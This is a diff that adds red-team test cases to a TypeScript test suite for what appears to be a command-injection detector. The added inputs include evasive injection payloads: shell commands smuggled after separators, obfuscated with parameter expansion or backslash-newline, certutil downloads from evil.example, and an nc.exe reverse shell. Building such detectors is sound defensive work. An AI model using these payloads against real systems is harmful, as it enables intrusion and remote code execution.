@@ -1598,3 +1598,83 @@ describe("cmdi session 19 (rt22): a command word before '~' and digits is its Wi
     expectSameWhenSplit(d, [input]);
   });
 });
+
+// Session 20 (red team rtc23): shell grammar that leaves the command position open after something that is not the
+// command word: the pipeline negation '!', the reserved words, command/builtin, an assignment or a redirection before
+// the command, and the word pieces ${x:-w} $(:) backslash-newline that the shell removes. Each attack in three contexts.
+const CTX = ['query', 'form', 'json'] as const;
+function expectCmdi(input: string): void {
+  for (const context of CTX) {
+    const r = d.scan(input, { context });
+    expect(r.blocked, `${context}: ${JSON.stringify(input)}`).toBe(true);
+    expect(r.threats.some((t) => t.category === 'cmdi'), `${context}: ${JSON.stringify(input)}`).toBe(true);
+  }
+  expectSameWhenSplit(d, [input]);
+}
+function expectNoCmdi(input: string): void {
+  for (const context of CTX) {
+    expect(ruleIds(d.scan(input, { context })).filter((r) => r.startsWith('cmdi.')), `${context}: ${JSON.stringify(input)}`).toEqual([]);
+  }
+  expectSameWhenSplit(d, [input]);
+}
+
+describe("cmdi session 20 (rtc23): '! ' (pipeline negation) keeps the command position a separator opened", () => {
+  it.each(['x;! id', 'x&&! id', 'x\n! id', "x';! id;'", 'x;! cat secret.txt', 'x|! whoami', 'x; ! ! uname -a'])('%s is a command', expectCmdi);
+  // a '!' glued to the word after it is no negation (sh runs a command named "!id"); one after a word is prose
+  it.each(['Great job! Date night', 'a;!b', 'Hello;!important', 'Wow!! Cat food', 'x;!date', 'Yes; ! no', 'F!&l%#&!$Un350Gv'])('%s stays clean', expectNoCmdi);
+});
+
+describe('cmdi session 20 (rtc23): reserved words after a separator (then do else elif while until, if before a command) keep the command position', () => {
+  it.each(['x;if id;then :;fi', 'x;while id;do break;done', 'x;until id;do :;done', 'x;for i in 1;do id;done',
+    'x&&if id;then :;fi', 'x\nif cat secret.txt;then :;fi', 'x;if :;then id;fi', 'x;if x;then :;else cat secret.txt;fi',
+    'x|while whoami;do :;done', 'x;case x in x) id;;esac', 'x;case x in y) :;;*) cat secret.txt;;esac'])('%s is a command', expectCmdi);
+  // (a ')' opens a position only in a case read after a separator)
+  it.each(['In case (a) fails, see (b) date', 'Just in case) cat food', 'Case 1) cat food'])('%s stays clean', expectNoCmdi);
+  // then else elif do with no if while until for before them are a syntax error in sh (nothing runs): prose's "; then"
+  it.each(['x;then id', 'x;else cat secret.txt', 'Sleep well; then touch base', 'x; do cat food', 'If you can', 'x; then we go', 'Do it; then relax', 'While you wait', 'Then; do it', 'a; if so, then yes',
+    'Done; else nothing'])('%s stays clean', expectNoCmdi);
+});
+
+describe('cmdi session 20 (rtc23): command and builtin after a separator run the command after them', () => {
+  it.each(['x;command id', 'x;\\command id', 'x;command cat secret.txt', 'x;builtin eval id', 'x|command whoami'])('%s is a command', expectCmdi);
+  it.each(['Command line', 'Shift; Command', 'Press Ctrl; command palette opens', 'Command & Conquer', 'x; builtin types', 'In bash, $(command) is preferred'])('%s stays clean', expectNoCmdi);
+});
+
+describe('cmdi session 20 (rtc23): name=value before a command word (an environment assignment) keeps the command position', () => {
+  it.each(['x;a=b id', 'x;a= id', 'x|a=b id', 'x\na=b id', 'x;LANG=C cat secret.txt', 'x && a=b id', 'x;a=1 b=2 uname -a', 'x;a="b c" id'])('%s is a command', expectCmdi);
+  // (a quote left open in the value holds the rest; a code span standing apart in prose is documentation)
+  it.each(["sanitizeUrlPath('/foo;bar=1', true)", 'For example: `DEBUG=1 node app.js` shows it'])('%s stays clean', expectNoCmdi);
+  it.each(['a=b c=d', 'x=1 y', 'a=1;b=2 c', 'x;a=b c=d', 'name=John; age=30 years', 'k=v; a=b and more'])('%s stays clean', expectNoCmdi);
+});
+
+describe('cmdi session 20 (rtc23): a redirection before the command word keeps the command position', () => {
+  it.each(['x;2>&1 id', 'x;</dev/null id', 'x;<secret.txt cat', 'x|2>&1 id', 'x;2>x id', 'x&&2>&1 id', 'x;>/dev/null uname -a'])('%s is a command', expectCmdi);
+  it.each(['a < b and c', 'x;<b>bold</b> text', '1 < 2; 3 > 2 yes', 'Errors: 2>&1 redirect', 'x;<b> cat food', 'a; 2 > 1 date'])('%s stays clean', expectNoCmdi);
+});
+
+describe('cmdi session 20 (rtc23): ${x:-w} ${x=w} ${x+w} expand to their word; $(:) and backslash-newline vanish from a word', () => {
+  it.each(['x;${x:-id}', 'x;${x=id}', 'x;${x:=id}', 'x;${PATH%2Bid}', 'x;${x:-c}at secret.txt', 'x;i${x:%2By}d', 'x$(${x:-id})',
+    'x`${x:-id}`', 'x\n${x:-id}', 'x;${x:-cat secret.txt}', 'x;$(:)id', 'x;i$(:)d', 'x;c$(:)at secret.txt', 'x\n$(:)id',
+    'x;i\\\nd', 'x;c\\\nat secret.txt', 'x;wh\\\noami', 'x;cu\\\nrl http://evil.example/'])('%s is a command', expectCmdi);
+  // (a raw '+' is a space in a query or form value, as the application reads it too: ${PATH id} is no expansion there)
+  it.each(['x;${PATH+id}', 'x;i${x:+y}d', 'x;${x+id}'])('%s in a JSON body is a command', (input) => {
+    expect(d.scan(input, { context: 'json' }).blocked).toBe(true);
+  });
+  it.each(['port=${PORT:-8080}', 'image: ${IMAGE:-app}', 'x;${x:-default}', 'a$(:)b', 'line one \\\nline two', 'C:\\dir\\\nnext'])('%s stays clean', expectNoCmdi);
+});
+
+describe("cmdi session 20 (rtc23): cmd.exe reads a switch glued to the command word after & | newline (whoami/all, cmd/c)", () => {
+  it.each(['x&cmd/c whoami', 'x&whoami/all', 'x&ipconfig/all', 'x|whoami/all', 'x&&cmd/c whoami', 'x&dir/s/b c:\\',
+    'x&certutil/urlcache/f http://evil.example/x x.exe', 'x&powershell/c whoami', 'x&cmd/c"whoami"'])('%s is a command', expectCmdi);
+  // a path goes on after the segment (bin/x.sh, cat/dogfood.png); a ';' is no cmd.exe separator; a word of digits is no switch
+  it.each(['x&bin/x.sh', 'R&D/IT', 'Tom & Jerry/Cartoons', 'x;whoami/all', 'x&cat/dogfood.png', 'x&dir/2024', 'Q&A/help-center'])('%s stays clean', expectNoCmdi);
+});
+
+describe('cmdi session 20 (rtc23): a Windows absolute or UNC path after & | newline runs the program it names', () => {
+  it.each(['x&c:\\windows\\system32\\whoami', 'x&C:\\Windows\\System32\\certutil.exe -urlcache -f http://evil.example/x x.exe',
+    'x&c:/windows/system32/whoami', 'x&\\\\evil.example\\share\\x.exe', 'x|C:\\tools\\nc.exe -e cmd 10.0.0.1 4444',
+    'x\nc:\\users\\public\\a.bat', 'x&C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe whoami'])('%s is a command', expectCmdi);
+  // a document, a folder or a path mentioned after ';' or in prose; C:\Program Files\x.exe unquoted runs C:\Program (split at the space)
+  it.each(['Docs & C:\\Users\\me\\notes.txt', 'Saved to: C:\\Temp\\x.exe', 'x&c:\\temp', 'Paths & c:\\windows\\system32',
+    'x&\\\\fileserver\\shared\\Finance', 'x&C:\\Program Files\\app.exe', 'x;c:\\tools\\app.exe'])('%s stays clean', expectNoCmdi);
+});
